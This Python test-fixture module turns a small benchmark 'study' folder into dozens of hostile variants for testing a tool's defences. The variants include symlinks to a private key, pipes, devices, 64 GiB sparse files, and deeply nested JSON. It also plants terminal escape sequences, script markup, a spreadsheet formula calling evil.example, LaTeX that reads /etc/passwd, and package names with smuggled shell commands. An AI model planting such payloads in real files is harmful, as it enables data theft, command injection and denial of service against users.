"""Study folders that try to harm whoever opens them; each function turns a small healthy study into one of them.

Run ``python -m tests.hostile_studies FOLDER`` to write all of them, for example to try a command by hand.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import sys
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.conftest import StudyFiles

PRIVATE = "the content of a private key"
"""Content of a file of the user that no command may disclose or change."""

Plant = Callable[["Victim"], None]


@dataclass(frozen=True, slots=True, kw_only=True)
class Victim:
    """A study to be made hostile, and what lies outside it.

    Parameters
    ----------
    study : StudyFiles
        Healthy study of two networks under two seeds.
    outside : Path
        Folder of the user with a secret file and a folder, neither of which belongs to the study.
    """

    study: StudyFiles
    outside: Path

    @property
    def folder(self) -> Path:
        """Folder of the study."""
        return self.study.folder

    @property
    def secret(self) -> Path:
        """File of the user that must be neither read nor written."""
        return self.outside / "id_rsa"

    @property
    def run(self) -> Path:
        """Folder of the first run."""
        return self.study.run_folder(self.study.cells[0])

    def replace_by_link(self, path: Path, target: Path) -> None:
        """Put a symbolic link in the place of a file or folder of the study."""
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    def edit(self, path: Path, **changes: Any) -> None:
        """Change values of a JSON file."""
        path.write_text(json.dumps({**json.loads(path.read_text()), **changes}), encoding="utf-8")


def make_victim(folder: Path) -> Victim:
    """Write a healthy study, and a file of the user beside it."""
    study = StudyFiles(folder / "study")
    for model, score in (("convxpress", 93.0), ("mcrgnet", 71.0)):
        for seed in (8901, 1826):
            run = study.finish(study.cell(model, seed), score + seed / 1e4)
            for name in ("log.txt", "events.jsonl"):
                (run / name).write_text("")
    (study.folder / "registry.yaml").write_text("dataset: synthetic-radio\n")
    outside = folder / "outside"
    (outside / "folder").mkdir(parents=True)
    victim = Victim(study=study, outside=outside)
    victim.secret.write_text(PRIVATE, encoding="utf-8")
    (outside / "folder" / "kept.txt").write_text(PRIVATE, encoding="utf-8")
    return victim


def _link(*parts: str) -> Plant:
    def plant(victim: Victim) -> None:
        victim.replace_by_link(victim.folder.joinpath(*parts), victim.secret)

    return plant


def _link_in_run(name: str, *, to_folder: bool = False) -> Plant:
    def plant(victim: Victim) -> None:
        victim.replace_by_link(victim.run / name, victim.outside / "folder" if to_folder else victim.secret)

    return plant


def _file_in_run(name: str, content: str) -> Plant:
    def plant(victim: Victim) -> None:
        (victim.run / name).write_text(content, encoding="utf-8")

    return plant


def _values_in_run(name: str, **changes: Any) -> Plant:
    def plant(victim: Victim) -> None:
        victim.edit(victim.run / name, **changes)

    return plant


def _linked_runs(victim: Victim) -> None:
    runs = victim.folder / "runs"
    for path in runs.iterdir():
        path.rename(victim.outside / "folder" / path.name)
    victim.replace_by_link(runs, victim.outside / "folder")


def _linked_run(victim: Victim) -> None:
    moved = victim.outside / "folder" / "run"
    victim.run.rename(moved)
    (victim.folder / "runs" / moved.name).unlink(missing_ok=True)
    victim.folder.joinpath("runs", victim.study.cells[0]["key"][:16]).symlink_to(moved)


def _circle(victim: Victim) -> None:
    (victim.run / "again").symlink_to(victim.run)


def _pipe(*parts: str) -> Plant:
    def plant(victim: Victim) -> None:
        path = victim.folder.joinpath(*parts) if parts else victim.run / "metrics.json"
        path.unlink(missing_ok=True)
        os.mkfifo(path)

    return plant


def _socket(victim: Victim) -> None:
    with socket.socket(socket.AF_UNIX) as one, _inside(victim.run):
        one.bind("control")


@contextmanager
def _inside(folder: Path) -> Iterator[None]:
    before = Path.cwd()
    os.chdir(folder)  # paths of sockets are short
    try:
        yield
    finally:
        os.chdir(before)


def _device(victim: Victim) -> None:
    path = victim.run / "predictions_best.csv"
    try:
        os.mknod(path, 0o666 | 0o020000, os.makedev(1, 5))  # /dev/zero
    except PermissionError:
        path.symlink_to("/dev/zero")


def _huge(name: str) -> Plant:
    def plant(victim: Victim) -> None:
        with (victim.run / name).open("wb") as stream:
            stream.truncate(1 << 36)  # takes no space, and 64 GiB of memory to read

    return plant


def _odd_names(victim: Victim) -> None:
    (victim.run / "x\n\x1b]0;owned\x07y").write_text("")
    (victim.folder / "runs" / "a\nb").mkdir()
    (victim.folder / "--help").write_text("")
    os.mkdir(os.fsencode(victim.folder / "runs") + b"/\xff\xfe")  # noqa: PTH102 - `Path` takes no bytes


def _text_everywhere(text: str) -> Plant:
    def plant(victim: Victim) -> None:
        study = victim.study
        study.plan["title"] = text
        study.plan["dataset"]["skipped"] = [{"name": text, "reason": text}]
        study.plan["dataset"]["licence"] = study.plan["dataset"]["citation"] = text
        study.plan["registry"]["name"] = text
        study.fail(study.cell(text, 8901), "diverged", text)
        study.write_plan()

    return plant


def _packages(victim: Victim) -> None:
    for cell in victim.study.cells:
        path = victim.study.run_folder(cell) / "manifest.json"
        fingerprint = json.loads(path.read_text())["fingerprint"]
        packages = {"--index-url=http://evil.example/simple": "1", "numpy": "2.0 ; touch gone", "a b": "$(touch gone)"}
        victim.edit(path, fingerprint={**fingerprint, "packages": packages, "benchmarker": "1 --pre"})


def _claimed_jobs(victim: Victim) -> None:
    """Claim jobs of the user's batch system, so that they are cancelled."""
    folder = victim.folder / "cluster" / "1"
    folder.mkdir(parents=True)
    jobs = [{"number": number, "script": "cells.sh", "tasks": [[victim.study.cells[0]["key"]]]} for number in range(99)]
    (folder / "submission.json").write_text(json.dumps({"jobs": jobs}), encoding="utf-8")


def _many_packages(victim: Victim) -> None:
    path = victim.run / "manifest.json"
    fingerprint = json.loads(path.read_text())["fingerprint"]
    victim.edit(path, fingerprint={**fingerprint, "packages": {f"p{number}": "1" for number in range(300_000)}})


def _name_in_another_case(victim: Victim) -> None:
    shutil.copytree(victim.folder / "runs", victim.folder / "Runs")


def _name_in_a_run_in_another_case(victim: Victim) -> None:
    shutil.copy(victim.run / "metrics.json", victim.run / "Metrics.json")


ATTACKS: Mapping[str, Plant] = {
    "index-is-a-link": _link(".index"),
    "plan-is-a-link": _link("plan.json"),
    "registry-is-a-link": _link("registry.yaml"),
    "claim-is-a-link": _link(".claim-1"),
    "plan-claim-is-a-link": _link(".plan.claim-1"),
    "report-is-a-link": _link("report.html"),
    "default-report-is-a-link": _link("report.json"),
    "runs-is-a-link": _linked_runs,
    "run-is-a-link": _linked_run,
    "log-is-a-link": _link_in_run("log.txt"),
    "events-are-a-link": _link_in_run("events.jsonl"),
    "metrics-are-a-link": _link_in_run("metrics.json"),
    "predictions-are-a-link": _link_in_run("predictions_best.csv"),
    "history-is-a-link": _link_in_run("history.csv"),
    "trail-is-a-link": _link_in_run("trail.json"),
    "picture-is-a-link": _link_in_run("samples.png"),
    "folder-in-run-is-a-link": _link_in_run("samples", to_folder=True),
    "run-links-to-itself": _circle,
    "metrics-are-a-pipe": _pipe(),
    "plan-is-a-pipe": _pipe("plan.json"),
    "index-is-a-pipe": _pipe(".index"),
    "claim-is-a-pipe": _pipe(".claim-1"),
    "socket-in-run": _socket,
    "predictions-are-a-device": _device,
    "metrics-are-64-gib": _huge("metrics.json"),
    "manifest-is-64-gib": _huge("manifest.json"),
    "predictions-are-64-gib": _huge("predictions_best.csv"),
    "weights-are-64-gib": _huge("weights_best.weights.h5"),
    "deep-json": _file_in_run("metrics.json", "[" * 200_000 + "]" * 200_000),
    "many-packages": _many_packages,
    "long-json": _file_in_run("metrics.json", "[" + "[]," * 6_000_000 + "0]"),
    "claimed-jobs": _claimed_jobs,
    "huge-integer": _file_in_run("costs.json", '{"flops": 1' + "0" * 400_000 + "}"),
    "not-a-number": _file_in_run("metrics.json", '{"best": NaN, "final": Infinity}'),
    "infinite-seed": _file_in_run("manifest.json", '{"format": 1, "status": "ok", "seed": Infinity}'),
    "nan-in-fingerprint": _values_in_run("manifest.json", fingerprint={"threads": float("nan"), "python": []}),
    "truncated-json": _file_in_run("costs.json", '{"parameters": {"total"'),
    "binary-json": _file_in_run("costs.json", "\x00\x01\x02\ud7ff"),
    "terminal-sequences": _text_everywhere("a\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07\x1b[2J\x9b31m\r\nb"),
    "odd-names": _odd_names,
    "runs-in-two-cases": _name_in_another_case,
    "metrics-in-two-cases": _name_in_a_run_in_another_case,
    "nul-characters": _text_everywhere("a\0b"),
    "markup": _text_everywhere(
        "<script>alert(1)</script>[x](javascript:alert(1))\n# Heading\n![i](http://evil.example/i)"
    ),
    "formulas": _text_everywhere('=HYPERLINK("http://evil.example","x")'),
    "latex": _text_everywhere(r"\input{/etc/passwd}\write18{touch gone}$\\"),
    "hostile-packages": _packages,
}
"""Each attack by its name."""


def main() -> None:
    """Write all hostile studies."""
    for name, plant in ATTACKS.items():
        plant(make_victim(Path(sys.argv[1], name)))


if __name__ == "__main__":
    main()
